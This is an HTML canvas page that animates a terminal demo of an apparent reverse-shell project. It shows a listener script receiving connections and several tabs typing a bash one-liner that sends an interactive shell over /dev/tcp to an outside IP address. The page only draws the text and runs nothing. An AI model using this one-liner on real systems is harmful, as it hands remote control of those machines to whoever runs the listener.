
An HTML page with a canvas that plays this animation: 750 by 434 pixels, repeating every 8 s.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #000; }
  canvas { display: block; width: 750px; height: 434px; }
</style>
</head>
<body>
<canvas id="stage" width="750" height="434"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 8000;
const BLUE = '#0a84e6';
const COLORS = { text: '#dcdcdc', prompt: '#2493f0', path: '#22c4cc', brace: '#c018c0', branch: '#0c6410' };

const LARGE = { font: 'bold 10.87px "DejaVu Sans Mono", monospace', cell: 6.545, row: 13.96, top: 36.1, base: 4, rows: 28 };
const SMALL = { font: '8.15px "DejaVu Sans Mono", monospace', cell: 4.92, row: 10.6, top: 35.6, base: 3, rows: 38 };

const HOST = '[ root@vm-node-ab:~ ]$ ';
const REPO = '[ root@baf32dd1aebe:~/Reverse_shell {master} ]$ ';
const COMMAND = 'bash -c "bash -i &>/dev/tcp/123.59.85.22/61432 0>&1"';
const MINI = '[ root@h_desk-mini:~ ]$ ';
const pad = ' '.repeat(10);
const client = port => `New client 10.10.119.110:${port} is connection!\n`;
const counters = (rx, tx) => [
  `RX packets:${rx} errors:0 dropped:0 overruns:0 frame:0`,
  `TX packets:${tx} errors:0 dropped:0 overruns:0 carrier:0`,
  'collisions:0 txqueuelen:0'
];
const device = (name, lines) => lines.map((s, i) => (i ? pad : name.padEnd(10)) + s).join('\n') + '\n\n';

const history = '\n' + HOST + 'ifconfig\nifconfig\n' +
  device('eth0', [
    'Link encap:Ethernet  HWaddr 02:42:ac:11:00:10',
    'inet addr:172.17.0.16  Bcast:0.0.0.0  Mask:255.255.0.0',
    'inet6 addr: fe80::42:acff:fe11:10/64 Scope:Link',
    'UP BROADCAST RUNNING MULTICAST  MTU:1500  Metric:1',
    ...counters(31240, 36397),
    'RX bytes:3840965 (3.8 MB)  TX bytes:3207501 (3.2 MB)'
  ]) +
  device('lo', [
    'Link encap:Local Loopback',
    'inet addr:127.0.0.1  Mask:255.0.0.0',
    'inet6 addr: ::1/128 Scope:Host',
    'UP LOOPBACK RUNNING  MTU:65536  Metric:1',
    ...counters(0, 0),
    'RX bytes:0 (0.0 B)  TX bytes:0 (0.0 B)'
  ]) +
  HOST + '^CYou choose to stop me.\n' +
  REPO + 'python reverse_servers.py\n' +
  'listening on port 9300 (attempt 0)\nWaiting for the connection......\n' +
  client(59525) + '^CYou choose to stop me.\n' +
  REPO + 'python reverse_servers.py ';

// Each tab holds a terminal whose output arrives as [time, text] chunks.
const tabs = [
  { key: '1', name: 'c6', x: 0, w: 59, dot: 6, style: LARGE, stream: [
    [0, history],
    [300, '\nlistening on port 9300 (attempt 0)\nWaiting for the connection......\n'],
    [1500, client(59560)], [2600, client(59561)], [3500, client(59564)],
    [4900, '!'], [5100, 'c'], [5300, 'h'],
    [5600, '\n' + [0, 1, 2].map(i => `[${i}]-> 10.10.119.110\n`).join('') +
      'Please select a client!\nClient num (Default [0]):'],
    [7200, '\n' + HOST], [7700, '!']
  ] },
  { key: '2', name: 'c7-vm.node.ab', x: 61, w: 121, dot: 71, style: SMALL, stream: [
    [0, (HOST + COMMAND + '\n').repeat(2) + HOST + COMMAND], [1500, '\n']
  ] },
  { key: '3', name: 'remotebox - tunnel', x: 184, w: 142, dot: 195, style: SMALL, stream: [
    [0, 'root@node1-test-5540918:~# ' + COMMAND], [2600, '\n']
  ] },
  { key: '4', name: 'h_desk-mini', x: 328, w: 105, dot: 338, style: SMALL, stream: [
    [0, MINI + COMMAND + '\n' + MINI + COMMAND], [3500, '\n']
  ] }
];
const visits = [[0, 0], [1000, 1], [1900, 2], [3000, 3], [4000, 0]];
const ALERT_AT = 1500, ALERT_END = 4000;

function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function disc(x, y, r, color) {
  ctx.fillStyle = color;
  ctx.beginPath();
  ctx.arc(x, y, r, 0, Math.PI * 2);
  ctx.fill();
}

function lines(color, width, ...paths) {
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.beginPath();
  for (const p of paths) {
    ctx.moveTo(p[0], p[1]);
    for (let i = 2; i < p.length; i += 2) ctx.lineTo(p[i], p[i + 1]);
  }
  ctx.stroke();
}

function colorRuns(line) {
  const m = /^(\[ root@[\w-]+:)(\S+)( \{)?(\w+)?(\})?( \]\$)(.*)$/.exec(line);
  if (!m) return [[line, COLORS.text]];
  const kinds = ['prompt', 'path', 'brace', 'branch', 'brace', 'prompt', 'text'];
  return kinds.map((kind, i) => [m[i + 1] || '', COLORS[kind]]);
}

function drawTerminal({ style, stream }, t) {
  const text = stream.filter(([at]) => at <= t).map(([, s]) => s).join('');
  const rows = text.split('\n').slice(-style.rows);
  ctx.font = style.font;
  rows.forEach((line, r) => {
    const y = style.top + r * style.row + style.base;
    let col = 0;
    for (const [run, color] of colorRuns(line)) {
      ctx.fillStyle = color;
      for (const ch of run) ctx.fillText(ch, col++ * style.cell, y);
    }
  });
  const x = Math.round(rows[rows.length - 1].length * style.cell);
  const mid = style.top + (rows.length - 1) * style.row;
  const h = Math.round(style.row);
  rect(x, Math.round(mid - h / 2), Math.round(style.cell), h, '#00e800');
  ctx.strokeStyle = '#067006';
  ctx.lineWidth = 1;
  ctx.strokeRect(x + 1.5, Math.round(mid) - 2.5, 2, 4);
}

function drawTab(tab, active, alert) {
  const { x, w, dot } = tab;
  if (active) {
    rect(x - 1, 1, w + 2, 23, BLUE);
  } else {
    rect(x, 2, w, 20, '#f8f8f8');
    ctx.strokeStyle = '#c8c8c8';
    ctx.lineWidth = 1;
    ctx.strokeRect(x + 0.5, 1.5, w - 1, 21);
  }
  if (alert) {
    disc(dot, 13.5, 5.7, '#0878d4');
    rect(dot - 0.8, 10, 1.6, 4.5, '#fff');
    rect(dot - 0.8, 15.5, 1.6, 1.6, '#fff');
  } else {
    disc(dot, 13.5, 3.3, '#0b980f');
  }
  const left = dot + 9;
  ctx.font = (active ? '600 ' : '') + '9.7px "Open Sans", "Noto Sans", sans-serif';
  ctx.fillStyle = active ? '#fff' : '#202020';
  ctx.fillText(`${tab.key} ${tab.name}`, left, 17);
  rect(left, 18, 5.5, 1, ctx.fillStyle);
  const cx = x + w - 11;
  lines(active ? '#4ba6ee' : '#c4c4c4', 1, [cx - 2, 11.5, cx + 2, 15.5], [cx + 2, 11.5, cx - 2, 15.5]);
}

function drawTabBar(current, t) {
  rect(0, 0, 750, 25, '#eeeeee');
  tabs.forEach((tab, i) =>
    drawTab(tab, i === current, i === 0 && t >= ALERT_AT && t < ALERT_END));
  rect(435, 2, 17, 20, '#f8f8f8');
  ctx.strokeStyle = '#c8c8c8';
  ctx.strokeRect(434.5, 1.5, 17, 21);
  lines('#404040', 1.2, [440, 12.5, 447, 12.5], [443.5, 9, 443.5, 16]);
  ctx.fillStyle = '#c9c9c9';
  for (const [x, dir] of [[732, -1], [744, 1]]) {
    ctx.beginPath();
    ctx.moveTo(x + dir * 2, 12);
    ctx.lineTo(x - dir * 2, 8);
    ctx.lineTo(x - dir * 2, 16);
    ctx.fill();
  }
  rect(0, 23, 750, 3, BLUE);
}

function drawPointer() {
  ctx.beginPath();
  [[-1, 9], [5, 15.5], [2.5, 16], [4.5, 21], [2, 23], [-1, 18]].forEach(p => ctx.lineTo(...p));
  ctx.closePath();
  ctx.fillStyle = '#f4f4f4';
  ctx.fill();
  ctx.strokeStyle = '#111';
  ctx.lineWidth = 1.2;
  ctx.stroke();
}

function drawIBeam() {
  lines('#b4b4b4', 1.4,
    [341, 310, 341, 321],
    [338, 309.5, 340.3, 309.5], [341.7, 309.5, 344, 309.5],
    [338, 321, 340.3, 321], [341.7, 321, 344, 321]);
}

function frame() {
  const t = performance.now() % LOOP;
  const current = visits.filter(([at]) => at <= t).pop()[1];
  rect(0, 0, 750, 434, '#000');
  drawTerminal(tabs[current], t);
  drawTabBar(current, t);
  if (t < ALERT_AT) drawPointer();
  drawIBeam();
  requestAnimationFrame(frame);
}
frame();
</script>
</body>
</html>
```
